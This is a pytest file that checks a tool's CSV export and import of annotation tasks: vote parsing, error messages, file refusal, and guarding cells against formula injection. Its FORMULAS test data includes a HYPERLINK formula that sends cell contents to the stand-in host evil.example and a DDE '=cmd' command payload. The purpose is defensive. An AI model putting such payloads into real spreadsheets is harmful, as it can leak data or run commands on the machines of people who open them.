"""The task as a spreadsheet: export and import, and no cell that a program would evaluate."""

import csv
import io
from collections.abc import Callable
from pathlib import Path

import pytest

from skillmix.commands import main
from skillmix.errors import UserError
from skillmix.runs.run import open_run
from skillmix.runs.texts import run_records
from skillmix.validation.spreadsheet import COLUMNS, guarded, read_spreadsheet, write_spreadsheet
from skillmix.validation.task import AnnotationTask, TaskSettings, make_task
from tests.validation.run_for_people import copied_run, skills_and_topic

FORMULAS = [
    '=HYPERLINK("http://evil.example?"&A1,"click")', "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1", " =1+1", "\n=1",
    "＝1+1", "=cmd|'/c calc'!A1", "'=1", 'He said "no", and, left;\nA second line.\x00\x07',
]  # fmt: skip
Row = dict[str, str]


@pytest.fixture
def task(in_folder: Path) -> AnnotationTask:
    combination = skills_and_topic("metaphor", "hyperbole", topic="Sewing")
    run = copied_run(texts=4, extra=tuple((text, combination) for text in FORMULAS))
    return make_task(run, TaskSettings(("ann",), n=100))


@pytest.fixture
def file(task: AnnotationTask) -> Path:
    path = Path("task.csv")
    write_spreadsheet(task, "ann", path)
    return path


def rows_of(file: Path) -> list[Row]:
    return list(csv.DictReader(io.StringIO(file.read_bytes().decode("utf-8-sig"), newline="")))


def write_rows(file: Path, rows: list[Row], *, delimiter: str = ",") -> None:
    content = io.StringIO()
    writer = csv.DictWriter(content, list(rows[0]), delimiter=delimiter)
    writer.writeheader()
    writer.writerows(rows)
    file.write_bytes(content.getvalue().encode())


def filled(file: Path, vote: Callable[[int], str] = lambda number: "10?"[number % 3]) -> list[Row]:
    return [{**row, "vote": vote(number)} for number, row in enumerate(rows_of(file))]


def test_no_cell_can_be_taken_for_a_formula(file: Path) -> None:
    cells = [cell for row in rows_of(file) for cell in row.values()]

    assert len(cells) > 100
    assert [cell for cell in cells if cell.lstrip("\ufffd \t\r\n")[:1] in tuple("=+-@＝")] == []
    assert not any(ord(sign) < 32 and sign not in "\n\t" for cell in cells for sign in cell)


@pytest.mark.parametrize("text", ["Plain.", "", "a = b", "(-1)"])
def test_plain_cells_stay_as_they_are(text: str) -> None:
    assert guarded(text) == text


def test_a_filled_spreadsheet_becomes_votes_and_a_second_import_changes_nothing(
    file: Path, task: AnnotationTask, capsys: pytest.CaptureFixture[str]
) -> None:
    rows = filled(file)
    rows[0]["comment"] = "=a comment"
    write_rows(file, rows[::-1], delimiter=";")  # in another order, by a program that writes semicolons

    assert main(["annotate", "people", "--rater", "ann", "--import", str(file)]) == 0
    assert main(["annotate", "people", "--rater", "ann", "--import", str(file)]) == 0

    texts = len(task.items)
    printed = capsys.readouterr().out.splitlines()
    assert printed == [f"ann: {texts} answers, {texts} of them new; 0 texts are empty",
                       f"ann: {texts} answers, 0 of them new; 0 texts are empty"]  # fmt: skip
    ballots = {b.text.id: b for b in run_records(open_run("people")).ballots if b.grader == "human:ann"}
    wanted: dict[str, dict[str, float | None]] = {}
    for row in rows:
        wanted.setdefault(row["item"], {})[row["criterion"]] = {"1": 1.0, "0": 0.0, "?": None}[row["vote"]]
    for own, votes in wanted.items():
        item = task.items[own[1:]]
        (reading,) = ballots[item.text.id].readings
        assert reading is not None and reading.points is not None
        assert reading.points[:-1] == tuple(votes[criterion.name] for criterion in item.criteria)
    assert any(r.notes == ("=a comment",) for b in ballots.values() for r in b.readings if r)


def test_texts_without_a_vote_are_left_out_and_answers_so_far_are_filled_in(file: Path, task: AnnotationTask) -> None:
    first = rows_of(file)[0]["item"]
    rows = [{**row, "vote": "yes" if row["item"] == first else ""} for row in rows_of(file)]
    write_rows(file, rows)

    read = read_spreadsheet(task, "ann", file)
    assert [f"t{own}" for own in read.answers] == [first] and read.empty == len(task.items) - 1
    with task.answering("ann") as store:
        assert store.store_all(read.answers) == 1

    again = make_task(open_run("people"), TaskSettings(("ann",), n=100))
    write_spreadsheet(again, "ann", Path("again.csv"))
    assert {row["vote"] for row in rows_of(Path("again.csv")) if row["item"] == first} == {"1"}
    assert {row["vote"] for row in rows_of(Path("again.csv")) if row["item"] != first} == {""}


FAULTS: dict[str, tuple[Callable[[list[Row]], object], str]] = {
    "vote": (lambda rows: rows[2].update(vote="maybe"), "row 4: 'maybe' is not a vote"),
    "missing vote": (lambda rows: rows[1].update(vote=" "), "it has no vote on"),
    "item": (lambda rows: rows[0].update(item="0000"), "row 2: the run has no text '0000'"),
    "item without its letter": (lambda rows: rows[0].update(item=rows[0]["item"][1:]), "row 2: the run has no text"),
    "criterion": (lambda rows: rows[0].update(criterion="length"), "row 2: 'length' is not a criterion"),
    "text": (lambda rows: rows[3].update(text="Another text"), "row 5: the text was changed"),
    "topic": (lambda rows: rows[3].update(topic="Golf"), "row 5: the topic was changed"),
    "question": (lambda rows: rows[3].update(question="Is it good?"), "row 5: the question was changed"),
    "repeated": (lambda rows: rows.append(dict(rows[0])), "it repeats the question on"),
    "comment": (lambda rows: rows[0].update(comment="x" * 6000), "the comment has 6000 characters"),
}


@pytest.mark.parametrize("fault", FAULTS)
def test_a_fault_is_named_and_nothing_is_stored(file: Path, task: AnnotationTask, fault: str) -> None:
    damage, words = FAULTS[fault]
    rows = filled(file)
    damage(rows)
    write_rows(file, rows)

    with pytest.raises(UserError) as error:
        read_spreadsheet(task, "ann", file)

    assert words in error.value.message
    assert main(["annotate", "people", "--rater", "ann", "--import", str(file)]) == 2
    assert not [b for b in run_records(open_run("people")).ballots if b.grader == "human:ann"]


def test_all_faults_come_at_once(file: Path, task: AnnotationTask) -> None:
    rows = filled(file, lambda number: "x")
    write_rows(file, rows)

    with pytest.raises(UserError) as error:
        read_spreadsheet(task, "ann", file)

    assert error.value.message.count("is not a vote") == 20
    assert f"and {len(rows) - 20} more" in error.value.message


NOT_TASKS = {
    "empty": b"",
    "binary": b"\xff\xfe\x00\x01",
    "another table": b"a,b\n1,2\n",
    "a column twice": ",".join([*COLUMNS, "vote"]).encode() + b"\n",
    "an open quotation": ",".join(COLUMNS).encode() + b'\n"abc',
}


@pytest.mark.parametrize("kind", NOT_TASKS)
def test_a_file_that_is_no_task_is_refused(in_folder: Path, task: AnnotationTask, kind: str) -> None:
    Path("other.csv").write_bytes(NOT_TASKS[kind])

    with pytest.raises(UserError) as error:
        read_spreadsheet(task, "ann", Path("other.csv"))
    assert error.value.hint


def test_an_export_never_replaces_votes_or_other_files(file: Path, task: AnnotationTask) -> None:
    write_spreadsheet(task, "ann", file)  # still empty
    write_rows(file, filled(file))
    before = file.read_bytes()
    Path("other.csv").write_text("precious", encoding="utf-8")

    for path in (file, Path("other.csv")):
        assert not write_spreadsheet(task, "ann", path)
        assert main(["annotate", "people", "--rater", "ann", "--n", "100", "--export", str(path)]) == 2
    assert (file.read_bytes(), Path("other.csv").read_text(encoding="utf-8")) == (before, "precious")

    with task.answering("ann") as store:
        store.store_all(read_spreadsheet(task, "ann", file).answers)
    again = make_task(task.run, task.settings)
    assert write_spreadsheet(again, "ann", file)  # all its votes are stored
    assert read_spreadsheet(again, "ann", file) == read_spreadsheet(task, "ann", file)


def test_the_spreadsheet_is_blind(file: Path) -> None:
    content = file.read_text(encoding="utf-8-sig")

    assert not any(word in content for word in ("littlebird", "bigbird", "juror"))


def test_no_id_looks_like_a_number(file: Path) -> None:
    ids = {row["item"] for row in rows_of(file)}

    assert len(ids) > 10 and all(own[0] == "t" for own in ids)


def test_a_spreadsheet_is_stored_under_the_name_of_its_person_only(
    file: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    write_rows(file, filled(file))

    assert main(["annotate", "people", "--rater", "bo", "--import", str(file)]) == 2
    assert "has the rater 'human:ann', not 'human:bo'" in capsys.readouterr().err
    write_rows(file, [{name: row[name] for name in row if name != "rater"} for row in filled(file)])
    assert main(["annotate", "people", "--rater", "ann", "--import", str(file)]) == 2
    printed = capsys.readouterr().err
    assert "no column 'rater'" in printed and "hint: Export the task again" in printed
    assert not list(Path("runs/people/people").glob("*.sqlite"))


def test_texts_outside_the_sample_are_refused_unless_they_were_answered_before(
    file: Path, task: AnnotationTask
) -> None:
    write_rows(file, filled(file))
    small = TaskSettings(("ann",), n=2)

    with pytest.raises(UserError, match="it is not assigned to ann; import with the options used for the export"):
        read_spreadsheet(make_task(task.run, small), "ann", file)

    with task.answering("ann") as store:
        store.store_all(read_spreadsheet(task, "ann", file).answers)
    again = make_task(open_run("people"), small)
    assert len(again.texts("ann")) == 2
    assert len(read_spreadsheet(again, "ann", file).answers) == len(task.items)


def test_the_export_shows_an_import_with_the_same_options(
    task: AnnotationTask, capsys: pytest.CaptureFixture[str]
) -> None:
    words = ["annotate", "people", "--n", "3", "--seed", "5", "--rater", "ann"]

    assert main([*words, "--export", "three.csv"]) == 0
    shown = capsys.readouterr().err.splitlines()[-1].partition(": skillmix ")[2].split()
    assert sorted(shown) == sorted([*words, "--import", "three.csv"])


@pytest.mark.parametrize("line", ["sep=;", '"sep=;"', "SEP=;"])
def test_a_first_line_may_name_the_separator(file: Path, task: AnnotationTask, line: str) -> None:
    rows = filled(file)
    write_rows(file, rows, delimiter=";")
    file.write_bytes(f"\ufeff{line}\r\n".encode() + file.read_bytes())

    assert len(read_spreadsheet(task, "ann", file).answers) == len(task.items)

    rows[0]["vote"] = "x"
    write_rows(file, rows, delimiter=";")
    file.write_bytes(f"{line}\n".encode() + file.read_bytes())
    with pytest.raises(UserError, match="row 3: 'x' is not a vote"):
        read_spreadsheet(task, "ann", file)
